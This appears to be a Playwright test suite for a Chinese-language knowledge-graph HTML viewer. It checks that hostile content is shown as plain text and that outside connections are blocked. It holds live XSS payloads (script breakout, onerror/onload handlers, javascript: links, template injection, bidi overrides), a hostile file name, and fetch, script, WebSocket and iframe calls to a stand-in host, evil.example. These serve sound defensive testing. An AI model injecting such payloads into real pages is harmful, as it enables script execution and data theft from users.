"""A corpus that wants to run scripts, to call home and to break the page: it is shown as the text it is."""

import re
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect

from kg import build
from kg.graph import load_graph
from kg.view import FOLDER, to_html

from .conftest import Open

EVIL = (
    "</script><script>globalThis.hacked=1</script><img src=x onerror='globalThis.hacked=2'>"
    '<svg onload=globalThis.hacked=3><a href="javascript:globalThis.hacked=4">x</a>'
    " href={{ 7*7 }}${7*7}{% raw %}"
    "<!--<script>\u202eetirw\u2066\u2028&lt;b&gt;\\u003cb>https://evil.example/x.png"
)
VIEWS = ["today", "graph", "ledger", "tiles", "time", "charts", "review", "dossier"]
LONG = "长" * 10_000
STORY = f"""{EVIL}工厂开工
2024年5月13日，总投资约7.6亿元的涪江{EVIL}项目在合川区开工，项目由重庆涪江{EVIL}有限公司建设。
重庆涪江轴承有限公司为重庆北碚机械有限公司供应轴承。{EVIL}
重庆北碚机械有限公司位于北碚区，与{LONG}有限公司合作。
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The page of a hostile source, its names made as bad as names can be."""
    folder = tmp_path_factory.mktemp("hostile")
    source = folder / "<img src=x onerror=alert(1)> 'page'.txt"
    source.write_text(STORY, encoding="utf-8")
    build([source], folder)
    graph = load_graph(folder)
    for number, key in enumerate(sorted(graph)):
        node = graph.nodes[key]
        node["aliases"] = [*node["aliases"], EVIL, LONG]
        node["name"] = f"{node['name']}{LONG if number % 3 == 0 else EVIL}"
        node["reasons"] = [EVIL]
    for article in graph.graph["articles"].values():
        for field in ("headline", "publisher", "page", "url"):
            article[field] += f"javascript:globalThis.hacked=5 {EVIL}"
        article["authors"] = [EVIL]
    for *_, edge in graph.edges(data=True):
        for said in edge["statements"]:
            said["role"] = EVIL
    file = folder / "hostile.html"
    file.write_bytes(to_html(graph, lang="zh"))
    return file


def check(page: Page) -> None:
    """Nothing has run, and no element but ours is there."""
    assert page.evaluate("globalThis.hacked") is None
    tags = set(page.evaluate("[...document.querySelectorAll('body *')].map((one) => one.localName)"))
    assert not tags & {"img", "iframe", "object", "embed", "link", "base", "foreignobject"}
    assert not page.evaluate("[...document.querySelectorAll('[href], [src], [onerror], [onload]')].length")
    scripts = page.evaluate(
        "[...document.scripts].filter((one) => one.text.includes('hacked') && !one.type).length"
    )
    assert scripts == 0


def test_nothing_of_a_document_runs(open_page: Open, hostile: Path) -> None:
    page = open_page(hostile)
    check(page)
    for index in range(page.evaluate("view.entities.length")):
        page.evaluate("(index) => view.choose(index)", index)
        page.evaluate("document.querySelector('#panel .from button')?.click()")
        check(page)
    page.fill("#query", "<img")
    expect(page.locator("#results")).to_contain_text("<img src=x onerror=")
    check(page)
    page.keyboard.press("Enter")
    expect(page.locator("#panel h2")).to_contain_text("{{ 7*7 }}${7*7}{% raw %}")
    for button in ("#filter-button", "#to-ledger", "#to-charts", "#language"):
        page.click(button)
        page.wait_for_selector("html[data-ready=yes]", state="attached")
        check(page)


OPEN_ALL = "for (const one of document.querySelectorAll('main details, #panel details')) one.open = true"


@pytest.mark.parametrize("view", VIEWS)
def test_nothing_runs_in_any_view(open_page: Open, hostile: Path, view: str) -> None:
    page = open_page(hostile, at=f"view={view}&asof=2099&order=sum&province=all&tab=links")
    for thing in ["", *page.evaluate("view.entities.map((one) => `${one.id}&`)")]:
        visit(page, [f"{thing}view={view}"])
        page.evaluate(OPEN_ALL)
        assert view_of(page) == view
        assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), thing
        check(page)
    page.emulate_media(media="print")
    page.evaluate("dispatchEvent(new Event('beforeprint')); dispatchEvent(new Event('afterprint'))")
    check(page)
    page.emulate_media(media="screen")
    page.click("#language")
    page.wait_for_selector("html[data-ready=yes]", state="attached")
    check(page)


def test_the_picture_can_be_seen_behind_long_names(open_page: Open, hostile: Path) -> None:
    page = open_page(hostile)
    index = page.evaluate("view.entities.findIndex((one) => one.name.length > 9000)")
    page.evaluate("(index) => view.choose(index)", index)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.locator("#panel h2").bounding_box()["height"] < 300  # type: ignore[index]
    assert page.evaluate("document.getElementById('panel').scrollHeight") < 20_000
    labels = page.evaluate("view.entities.map((one) => one.dot.label)")
    assert max(map(len, labels)) < 60 and not re.search("[\u2028\u202a-\u202e\u2066]", "".join(labels))


def test_a_mark_that_turns_the_writing_stays_in_its_name(open_page: Open, hostile: Path) -> None:
    page = open_page(hostile)
    page.evaluate("view.choose(view.entities.findIndex((one) => one.name.includes('\\u202e')))")
    kept = page.evaluate(
        """[...document.querySelectorAll("#panel *")]
        .filter((one) => [...one.childNodes].some((text) => text.nodeType === 3 && /\\u202e/.test(text.data)))
        .every((one) => /isolate|plaintext/.test(getComputedStyle(one).unicodeBidi))"""
    )
    assert kept


NONSENSE = [
    "__proto__",
    "constructor",
    "-1",
    "1e999",
    "9999-99",
    "0000",
    "2024-02-30",
    "gone.gone",
    "\\(",
    '{"name":{}}',
    "<img src=x>\u202e" * 99,
]
FIELDS = re.findall(r'^  "?([a-z]+)"?[,:]', (FOLDER / "state.js").read_text(encoding="utf-8"), re.MULTILINE)


def visit(page: Page, addresses: list[str]) -> None:
    """Go to one address after the other in the same page; what breaks stands among the complaints."""
    page.evaluate(
        """async (addresses) => {
            for (const address of addresses) {
                location.hash = address;
                await new Promise((resolve) => setTimeout(resolve));
            }
        }""",
        addresses,
    )
    page.wait_for_timeout(50)


def view_of(page: Page) -> str:
    """Return the view that is shown."""
    return str(page.evaluate("document.documentElement.dataset.view"))


@pytest.mark.parametrize("view", VIEWS)
def test_an_address_may_hold_anything(open_page: Open, sample: Path, view: str) -> None:
    assert {"district", "asof", "order", "island", "pair"} <= set(FIELDS)
    page = open_page(sample, at="")
    one = page.evaluate("view.entities[0].id")
    values = [quote(text, safe="") for text in NONSENSE]
    every = ["&".join((f"view={view}", *(f"{key}={value}" for key in FIELDS))) for value in values]
    visit(page, [*every, f"{one}&{every[0]}", *(f"view={view}&{key}={values[0]}" for key in FIELDS)])
    visit(page, [f"view={view}&asof=0001", f"view={view}&district={one}&asof=9999-12-31", f"view={view}"])
    assert view_of(page) == view
    assert page.evaluate("document.getElementById('filter-button').textContent") != ""


def test_what_an_address_names_in_vain_is_no_filter(open_page: Open, sample: Path) -> None:
    named = (
        "district=gone&industry=gone&only=a.b&stage=constructor&least=x&most=NaN&sure=?&asof=2024-13&since=9"
    )
    page = open_page(sample, at=f"view=ledger&{named}&until=2024-02-30")
    page.click("#to-time")
    assert page.url.endswith("#view=time")


VALUES = [
    "null",
    "[null]",
    "[5]",
    "[[]]",
    "{}",
    "\ud800",
    '{"seen":[{}],"before":5,"at":{}}',
    '{"seen":[{}],"before":[null],"at":"x"}',
    '[{"tables":[null,{}],"error":{}}]',
    '[{"tables":["[[not-true]]\\nthing = { type = \\"\\\\UFFFFFFFF\\" }"]}]',
    '[{"tables":["[[not-true]]\\nthing = ' + "[" * 9999 + '"]}]',
]
KEYS = ["visit", "watch", "theme", "lang", "who", "columns-projects"]


@pytest.mark.parametrize("value", VALUES)
def test_what_the_browser_kept_may_be_anything(open_page: Open, sample: Path, value: str) -> None:
    page = open_page(sample, at="")
    page.evaluate(
        """([keys, value]) => {
            const decisions = [`decisions ${location.pathname}`, `decisions ${location.pathname} gone`];
            for (const key of [...keys, ...decisions]) localStorage.setItem(`kg-${key}`, value);
        }""",
        [KEYS, value],
    )
    page.reload()
    page.wait_for_selector("html[data-ready=yes]", state="attached")
    assert page.evaluate("document.documentElement.dataset.theme") in ("light", "dark")
    visit(page, [f"view={view}" for view in VIEWS])
    assert page.locator("#today .told").count()


@pytest.mark.parametrize(
    "forbid",
    [
        "Object.defineProperty(globalThis, 'localStorage', { get() { throw new DOMException('no'); } })",
        "Storage.prototype.setItem = () => { throw new DOMException('full', 'QuotaExceededError'); }",
    ],
)
def test_the_browser_may_keep_nothing(open_page: Open, sample: Path, forbid: str) -> None:
    page = open_page(sample, at="")
    page.context.add_init_script(forbid)
    page.reload()
    page.wait_for_selector("html[data-ready=yes]", state="attached")
    page.click("#today .star")
    visit(page, [f"view={view}" for view in VIEWS])
    assert view_of(page) == VIEWS[-1]


SMALL = {
    "nothing": "天气\n今天下雨了。\n",
    "a person": "任命\n王建华任重庆涪江轴承有限公司董事长。\n",
    "no project": "合作\n2024年5月13日，北碚区的重庆北碚机械有限公司与重庆涪江轴承有限公司合作。\n",
    "no date": "开工\n总投资7.6亿元的涪江轴承项目在合川区开工，由重庆涪江轴承有限公司建设。\n",
    "far": "开工\n9999年12月31日，总投资9999999999999亿元的涪江轴承项目在合川区开工。\n"
    "1年1月1日，总投资0.0000001亿元的嘉陵齿轮项目在北碚区投产，预计0年底满产。\n",
}


@pytest.mark.parametrize("story", SMALL.values(), ids=SMALL)
def test_a_page_of_little_opens_in_every_view(open_page: Open, tmp_path: Path, story: str) -> None:
    (tmp_path / "a.txt").write_text(story, encoding="utf-8")
    build([tmp_path / "a.txt"], tmp_path / "out")
    page = open_page(tmp_path / "out" / "graph.html", at="")
    things = ["", *page.evaluate("view.entities.map((one) => `${one.id}&`)")]
    for view in VIEWS:
        visit(
            page,
            [f"{thing}view={view}{more}" for thing in things for more in ("", "&asof=0001", "&years=all")],
        )
        assert view_of(page) == view
        assert page.locator("body").inner_text().strip() and not re.search(
            r"undefined|NaN|\[object", page.locator("body").inner_text()
        )


def test_back_and_forward_lead_through_all_views(open_page: Open, sample: Path) -> None:
    page = open_page(sample, at="")
    ways = [view for view in VIEWS if view != "dossier"]
    for view in ways[1:]:
        page.dblclick(f"#to-{view}")
        page.click("#language")
        page.wait_for_selector("html[data-ready=yes]", state="attached")
        assert view_of(page) == view
    for view in reversed(ways[:-1]):
        page.go_back()
        page.wait_for_function("(view) => document.documentElement.dataset.view === view", arg=view)
    for view in ways[1:]:
        page.go_forward()
        page.wait_for_function("(view) => document.documentElement.dataset.view === view", arg=view)


CONNECTIONS = [
    "fetch('https://evil.example/')",
    "new Image().src = 'https://evil.example/x.png'",
    "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))",
    "new WebSocket('wss://evil.example/')",
    "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
]


def test_the_policy_of_the_page_forbids_every_connection(
    open_page: Open, sample: Path, complaints: list[str]
) -> None:
    page = open_page(sample)
    for act in CONNECTIONS:
        page.evaluate(f"() => {{ try {{ const x = {act}; x?.catch?.(() => 0); }} catch {{}} }}")
        page.wait_for_timeout(100)
        refused = [one for one in complaints if "Content Security Policy" in one]
        assert refused and refused == complaints, act
        complaints.clear()


NAMESPACES = r"http://(?:schemas\.openxmlformats\.org|www\.w3\.org/2000/svg)"  # what kinds of XML are called


def test_no_address_stands_in_our_part_of_the_page() -> None:
    for file in sorted(FOLDER.iterdir()):
        text = re.sub(NAMESPACES, "", file.read_text(encoding="utf-8"))
        assert not re.findall(r"https?:|//[\w-]+\.\w+", text), file.name
